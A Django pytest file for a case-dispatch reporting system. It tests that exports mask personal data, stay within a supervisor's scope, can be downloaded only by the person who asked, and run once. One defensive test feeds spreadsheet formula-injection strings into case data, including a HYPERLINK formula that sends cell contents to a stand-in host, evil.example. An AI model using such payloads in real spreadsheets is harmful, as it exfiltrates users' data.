"""Exports as a supervisor uses them: a case list is the list on screen, masked; a township's
export holds only its township; a file is its asker's alone; formulas never run; the worker's
run is claimed, resumable and done once."""

from __future__ import annotations

import datetime as dt
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from dispatch import dashboard, outbox, rollups, services
from dispatch.models import Case, Job, PartyRole
from people.models import AuditRecord, Role
from reports import services as report_services
from reports.content import last_day
from reports.models import Export, ExportKind, ExportState
from reports.spreadsheets import safe_text
from tests import factories as f
from tests.clock import at
from tests.dispatch import loopkit
from tests.dispatch.test_figures import MON
from tests.reports.conftest import ask, download, last_week, month_params, week_month, workbook

pytestmark = pytest.mark.django_db


def township_b_case(tree, people, **kw):
    case = f.case(region=tree.village_b1, owner_unit=tree.centre_b, now=at(MON, 10), **kw)
    return services.register_case(case=case, actor=people.bob, now=at(MON, 10))


def sheet_rows(data: bytes, title: str = "案件清单") -> list[tuple]:
    return list(workbook(data)[title].iter_rows(values_only=True))


def test_a_case_list_export_is_the_list_on_screen_with_parties_masked(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    named = f.case(
        region=tree.village_a2,
        owner_unit=tree.centre_a,
        actor=people.alice,
        summary="王小明反映邻居占道，电话13912345678，身份证110101199003071234",
        parties=[
            (f.party(name="王小明", phone="13912345678"), PartyRole.APPLICANT),
            (f.party(name="赵大力", phone="13800001111"), PartyRole.RESPONDENT),
        ],
        now=at(MON, 16),
    )
    services.register_case(case=named, actor=people.erin, now=at(MON, 16))
    client.force_login(loop.sup_a)
    params = last_week(tree.town_a, fact="received")
    screen = client.get("/work/dashboard/cases/", params)
    on_screen = [case.code for case in screen.context["page"].object_list]
    assert len(on_screen) == 7 and named.code in on_screen

    export = ask(client, django_capture_on_commit_callbacks, "cases_xlsx", params)
    assert (export.state, export.progress, export.rows) == (ExportState.READY, 100, 7)
    rows = sheet_rows(download(client, export))
    header, body = rows[0], rows[1:]
    assert header[0] == "案件编号" and "申请人（已脱敏）" in header
    assert [row[0] for row in body] == on_screen  # same cases, same order

    text = " ".join(str(value) for row in rows for value in row if value is not None)
    for full in ("王小明", "赵大力", "13912345678", "110101199003071234", "张三", "13812341234"):
        assert full not in text, full
    mine = next(row for row in body if row[0] == named.code)
    applicants = header.index("申请人（已脱敏）")
    assert mine[applicants] == "王*明"
    assert mine[header.index("诉求摘要")] == (
        "王*明反映邻居占道，电话139****5678，身份证1101**********1234"
    )
    assert mine[header.index("上报时间")] == timezone.localtime(at(MON, 16)).replace(tzinfo=None)
    assert all(row[applicants] == "张*" for row in body if row[0] != named.code)


def test_a_long_list_costs_the_same_queries_as_a_short_one(
    tree, people, loop, django_assert_num_queries
):
    def export_received() -> Export:
        return report_services.request_export(
            actor=loop.sup_a,
            kind=ExportKind.CASES_XLSX,
            params={
                "region": tree.town_a.code,
                "fact": "received",
                "start": at(-7, 0).isoformat(),
                "end": at(0, 0).isoformat(),
                "now": at(0, 0).isoformat(),
            },
        )

    def add_cases(n: int) -> None:
        for i in range(n):
            loopkit.registered(tree, people, now=at(-3, 9, i))

    add_cases(3)
    first = export_received()
    with CaptureQueriesContext(connection) as few:
        assert report_services.run_export(export_id=first.pk) == ExportState.READY
    add_cases(6)
    second = export_received()
    # The cases and their parties are read per chunk, never per case.
    with django_assert_num_queries(len(few.captured_queries)):
        assert report_services.run_export(export_id=second.pk) == ExportState.READY
    assert Export.objects.get(pk=second.pk).rows == 9


def test_an_open_list_export_is_the_open_list_on_screen(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    client.force_login(loop.sup_a)
    params = {"region": tree.town_a.code, "list": "overdue"}
    on_screen = [c.code for c in client.get("/work/dashboard/cases/", params).context["page"]]
    assert on_screen  # c4 is late since last Wednesday
    export = ask(client, django_capture_on_commit_callbacks, "cases_xlsx", params)
    assert [row[0] for row in sheet_rows(download(client, export))[1:]] == on_screen


def test_formula_looking_text_is_written_as_text(
    client, tree, people, loop, django_capture_on_commit_callbacks
):
    summaries = [
        '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
        "+86 请回电",
        "-1 楼漏水",
        "@SUM(A1:A9)",
    ]
    for i, summary in enumerate(summaries):
        case = loopkit_case(tree, people, summary=summary, now=at(-3, 9, i))
        services.register_case(case=case, actor=people.erin, now=at(-3, 9, i))
    # The intake strips what is typed; a summary imported with a leading tab is written as text.
    Case.objects.filter(pk=case.pk).update(summary="\t=1+1")
    summaries[-1] = "\t=1+1"
    client.force_login(loop.sup_a)
    params = last_week(tree.town_a, fact="received")
    export = ask(client, django_capture_on_commit_callbacks, "cases_xlsx", params)
    sheet = workbook(download(client, export))["案件清单"]
    column = [c.value for c in sheet[1]].index("诉求摘要") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in cells) == sorted("'" + s for s in summaries)
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"):
        assert safe_text(text) == "'" + text
    assert safe_text("1+1") == "1+1" and safe_text("a=b") == "a=b"
    assert safe_text("a\x00b\x1fc") == "abc"  # characters XML cannot hold


def loopkit_case(tree, people, *, summary, now):
    return f.case(
        region=tree.village_a1,
        owner_unit=tree.centre_a,
        actor=people.alice,
        summary=summary,
        parties=[(f.party(), PartyRole.APPLICANT)],
        now=now,
    )


def test_a_township_supervisors_exports_count_only_their_township(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    other = township_b_case(tree, people)
    client.force_login(loop.sup_a)
    # Asking for township B falls back to the supervisor's own township, as on the dashboard.
    export = ask(
        client, django_capture_on_commit_callbacks, "monthly_xlsx", month_params(tree.town_b)
    )
    assert export.params["region"] == tree.town_a.code
    counts = dict(sheet_rows(download(client, export), "件数")[1:])
    month = week_month()
    period = dashboard.period_of("custom", now=timezone.now(), start=month, end=last_day(month))
    town_a = rollups.counts(tree.town_a, start=period.start, end=period.end, now=timezone.now())
    county = rollups.counts(tree.county, start=period.start, end=period.end, now=timezone.now())
    assert counts["受理"] == town_a["received"] == county["received"] - 1
    assert counts["办结"] == town_a["closed"]

    listed = ask(
        client,
        django_capture_on_commit_callbacks,
        "cases_xlsx",
        last_week(tree.town_b, fact="received"),
    )
    codes = [row[0] for row in sheet_rows(download(client, listed))[1:]]
    assert len(codes) == 6 and other.code not in codes

    # The county supervisor's list of the same week has township B's case too.
    client.force_login(people.dave)
    county_list = ask(
        client,
        django_capture_on_commit_callbacks,
        "cases_xlsx",
        last_week(tree.county, fact="received"),
    )
    assert other.code in [row[0] for row in sheet_rows(download(client, county_list))[1:]]


def test_the_accused_units_staff_never_export_its_case(
    client, tree, people, loop, django_capture_on_commit_callbacks
):
    county_clerk = f.user("county_clerk", role=Role.CLERK, region=tree.county)
    complaint = f.case(
        region=tree.village_a1,
        owner_unit=tree.county_centre,
        accused_unit=tree.centre_a,
        summary="投诉工作人员推诿",
        parties=[(f.party(), PartyRole.APPLICANT)],
        now=at(MON, 10),
    )
    services.register_case(case=complaint, actor=county_clerk, now=at(MON, 10))
    params = last_week(tree.town_a, fact="received")
    client.force_login(loop.sup_a)
    mine = ask(client, django_capture_on_commit_callbacks, "cases_xlsx", params)
    assert complaint.code not in [row[0] for row in sheet_rows(download(client, mine))[1:]]
    client.force_login(people.dave)
    county = ask(client, django_capture_on_commit_callbacks, "cases_xlsx", params)
    assert complaint.code in [row[0] for row in sheet_rows(download(client, county))[1:]]


def test_only_the_asker_downloads_an_export(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    client.force_login(loop.sup_a)
    export = ask(
        client, django_capture_on_commit_callbacks, "monthly_xlsx", month_params(tree.town_a)
    )
    url = f"/work/reports/exports/{export.public_id}/"
    missing = f"/work/reports/exports/{uuid.uuid4()}/"
    assert download(client, export).startswith(b"PK")
    audit = AuditRecord.objects.get(action="export.downloaded")
    assert (audit.user, audit.object_id) == (loop.sup_a, str(export.public_id))
    listing = client.get("/work/reports/exports/")
    assert listing["Cache-Control"] == "private, no-store"
    assert url in listing.content.decode()

    # Another supervisor, of the whole county: a plain 404, the same as for no export at all.
    client.force_login(people.dave)
    theirs, nothing = client.get(url), client.get(missing)
    assert theirs.status_code == nothing.status_code == 404
    assert theirs.content == nothing.content
    assert url not in client.get("/work/reports/exports/").content.decode()
    # Not a supervisor: the desk is refused whatever the address.
    client.force_login(people.alice)
    assert client.get(url).status_code == client.get(missing).status_code == 403
    client.logout()
    assert client.get(url).status_code == 302


def test_the_exports_page_shows_progress_and_refreshes_until_ready(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    client.force_login(loop.sup_a)
    # The commit's offer to the worker is not run yet: the export waits in the queue.
    with django_capture_on_commit_callbacks(execute=False):
        client.post("/work/reports/exports/new/monthly_xlsx/", month_params(tree.town_a))
    export = Export.objects.get()
    page = client.get("/work/reports/exports/").content.decode()
    assert '<meta http-equiv="refresh"' in page and "<progress" in page
    assert f"/work/reports/exports/{export.public_id}/" not in page  # no link before the file
    assert client.get(f"/work/reports/exports/{export.public_id}/").status_code == 404

    # The user left; the relay runs the job later, and the file is there when they come back.
    job = Job.objects.get(topic=report_services.TOPIC)
    assert outbox.run(job.pk) == outbox.Outcome.DONE
    page = client.get("/work/reports/exports/").content.decode()
    assert '<meta http-equiv="refresh"' not in page
    assert f'href="/work/reports/exports/{export.public_id}/"' in page


def test_a_run_is_claimed_once_and_a_stale_run_stops(tree, people, loop, week):
    export = report_services.request_export(
        actor=loop.sup_a,
        kind=ExportKind.MONTHLY_XLSX,
        params={"region": tree.town_a.code, "month": f"{week_month():%Y-%m}"},
    )
    # A live run holds it: another runner does not build it twice, it comes back later.
    now = timezone.now()
    Export.objects.filter(pk=export.pk).update(
        state=ExportState.RUNNING, attempt=1, lease_until=now + dt.timedelta(minutes=1)
    )
    stale = report_services._Run(Export.objects.get(pk=export.pk))
    with pytest.raises(outbox.RetryLaterError):
        report_services.run_export(export_id=export.pk, now=now)
    # That run died: once its lease has passed the export is taken over and made.
    later = now + dt.timedelta(minutes=3)
    assert report_services.run_export(export_id=export.pk, now=later) == ExportState.READY
    export.refresh_from_db()
    assert export.attempt == 2 and export.file
    with pytest.raises(report_services._SupersededError):
        stale.progress(50, 100)  # the first run, were it alive, stops writing
    # Done is done: a redelivered job changes nothing.
    name = export.file.name
    assert report_services.run_export(export_id=export.pk) == ExportState.READY
    export.refresh_from_db()
    assert export.file.name == name


def test_an_export_fails_when_the_asker_no_longer_oversees_the_scope(
    client, tree, people, loop, week, django_capture_on_commit_callbacks
):
    client.force_login(loop.sup_a)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post("/work/reports/exports/new/monthly_pdf/", month_params(tree.town_a))
    # Moved to another post before the worker ran.
    loop.sup_a.grants.filter(role=Role.SUPERVISOR, region=tree.town_a).delete()
    for callback in callbacks:
        callback()
    export = Export.objects.get()
    assert (export.state, export.error, export.file.name) == (ExportState.FAILED, "scope", "")


def test_an_export_the_outbox_gives_up_on_is_failed(client, tree, people, loop, monkeypatch):
    def broken(export, progress):
        raise RuntimeError("disk full")

    monkeypatch.setitem(report_services.BUILDERS, ExportKind.MONTHLY_XLSX, broken)
    export = report_services.request_export(
        actor=loop.sup_a,
        kind=ExportKind.MONTHLY_XLSX,
        params={"region": tree.town_a.code, "month": f"{week_month():%Y-%m}"},
    )
    job = Job.objects.get(topic=report_services.TOPIC)
    monkeypatch.setattr(outbox, "MAX_ATTEMPTS", 1)
    assert outbox.run(job.pk, now=timezone.now() + dt.timedelta(minutes=1)) == outbox.Outcome.FAILED
    export.refresh_from_db()
    assert (export.state, export.error) == (ExportState.FAILED, "failed")
    client.force_login(loop.sup_a)
    assert "生成失败" in client.get("/work/reports/exports/").content.decode()


def test_the_report_pages_are_a_supervisors_desk(client, tree, people):
    client.force_login(people.alice)
    assert client.get("/work/reports/").status_code == 403
    assert client.get("/work/reports/exports/").status_code == 403
    assert client.post("/work/reports/exports/new/monthly_pdf/").status_code == 403
    assert not Export.objects.exists()


def test_a_list_too_long_to_export_is_refused_when_asked(
    client, tree, people, loop, week, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(report_services, "MAX_ROWS", 5)
    client.force_login(loop.sup_a)
    response = client.post(
        "/work/reports/exports/new/cases_xlsx/", last_week(tree.town_a, fact="received")
    )
    assert response.status_code == 302 and response["Location"] == "/work/reports/"
    assert not Export.objects.exists()
    page = client.get(response["Location"]).content.decode()
    assert "清单共 6 件，超过一次可导出的 5 件" in page
